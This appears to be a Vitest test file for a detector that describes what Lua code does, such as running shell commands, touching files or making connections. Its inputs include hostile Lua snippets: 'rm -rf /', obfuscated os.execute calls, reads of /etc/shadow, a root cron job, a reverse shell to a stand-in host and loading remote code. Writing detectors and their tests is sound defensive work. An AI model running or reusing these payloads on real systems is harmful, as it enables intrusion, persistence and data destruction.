import { expect, test } from "vitest";
import { shown } from "./shown.ts";

test.each([
  ["print(1 + 1)", "prints 2"],
  ['for i = 1, 3 do print(string.format("%d", i)) end', "prints …\n"],
  ["local t = { a = 1, 2 } for k, v in pairs(t) do print(k, v) end -- done", "prints ……\n"],
  ["local function f(n) if n < 2 then return n else return f(n - 1) + f(n - 2) end end print(f(5))", "prints …\n"],
  ['--[[ os.execute("no") ]] print(#arg, [[long]])', "prints $a numberlong\n"],
  ['return redis.call("get", KEYS[1])', ""],
])("Lua, what only computes is nothing: %s", (code, expected, ...args) => {
  expect(shown("lua", code, ...args)).toBe(expected);
});

test.each([
  ['os.execute("/bin/sh")', "runs sh: /bin/sh"],
  ['os.execute"rm -rf /"', "runs sh: rm -rf /"],
  ['_G["os"]["ex" .. "ecute"]("id")', "runs sh: id"],
  ['local e = os.execute; e("id")', "runs sh: id"],
  ['local f = assert(io.popen("id", "r")); print(f:read("*a"))', "$`id` -> stdout; runs sh: id > $`id`; prints $(command)\n"],
  ['load("os.exe" .. "cute([[id]])")()', "runs sh: id"],
  ["loadstring(\"os.execute('id')\")()", "runs sh: id"],
  ['os.execute(string.char(105, 100)); os.execute(("di"):reverse())', "runs sh: id; runs sh: id"],
  ['pcall(os.execute, "id")', "runs sh: id"],
  ['local function r(x) os.execute(x) end r("id")', "runs sh: id"],
])("Lua runs programs: %s", (code, expected, ...args) => {
  expect(shown("lua", code, ...args)).toBe(expected);
});

test.each([
  [
    'local f = io.open("/etc/shadow", "rb"); io.write(f:read("*a")); io.close(f)',
    "reads /etc/shadow; /etc/shadow -> stdout; prints $file",
  ],
  [
    'local f = io.open("/etc/cron.d/x", "wb"); f:write("* * * * * root id\\n"); f:close()',
    "writes /etc/cron.d/x truncates; '* * * * * root id\n' -> /etc/cron.d/x",
  ],
  ['for l in io.lines("/etc/passwd") do print(l) end', "reads /etc/passwd; /etc/passwd -> stdout; prints $file\n"],
  [
    'os.remove("/etc/a"); os.rename("a", "b"); print(os.getenv("HOME"))',
    "deletes /etc/a; reads a; writes b truncates; deletes a how=move; a -> b; $HOME -> stdout; prints $HOME\n",
  ],
  [
    'dofile("/tmp/x.lua"); require("unheard_of"); package.loadlib("/tmp/x.so", "f")',
    "loads /tmp/x.so; runs lua file /tmp/x.lua; opaque-code project: lua loads unheard_of",
  ],
])("Lua reads and writes files: %s", (code, expected, ...args) => {
  expect(shown("lua", code, ...args)).toBe(expected);
});

test.each([
  [
    "require('socket');t=socket.tcp();t:connect('h.test','42');os.execute('/bin/sh -i <&3 >&3 2>&3')",
    "connects tcp://h.test:42; runs sh: /bin/sh -i <&3 >&3 2>&3",
  ],
  [
    'local s=require("socket");local t=assert(s.tcp());t:connect("h.test",12);while true do local r,x=t:receive();local f=assert(io.popen(r,"r"));local b=assert(f:read("*a"));t:send(b);end',
    "connects tcp://h.test:12; tcp://h.test:12 -> code shell; $`$(socket)` -> tcp://h.test:12; runs sh: $(socket) > $`$(socket)`",
  ],
  [
    'local http = require("socket.http"); load(http.request("http://h.test/x"))()',
    "connects http://h.test/x; http://h.test/x -> code lua; opaque-code network: lua code that is made when it runs",
  ],
])("Lua connects: %s", (code, expected, ...args) => {
  expect(shown("lua", code, ...args)).toBe(expected);
});

test.each([['print("unfinished', "opaque-code inline: lua code that could not be read"]])(
  "Lua that cannot be read: %s",
  (code, expected, ...args) => {
    expect(shown("lua", code, ...args)).toBe(expected);
  },
);
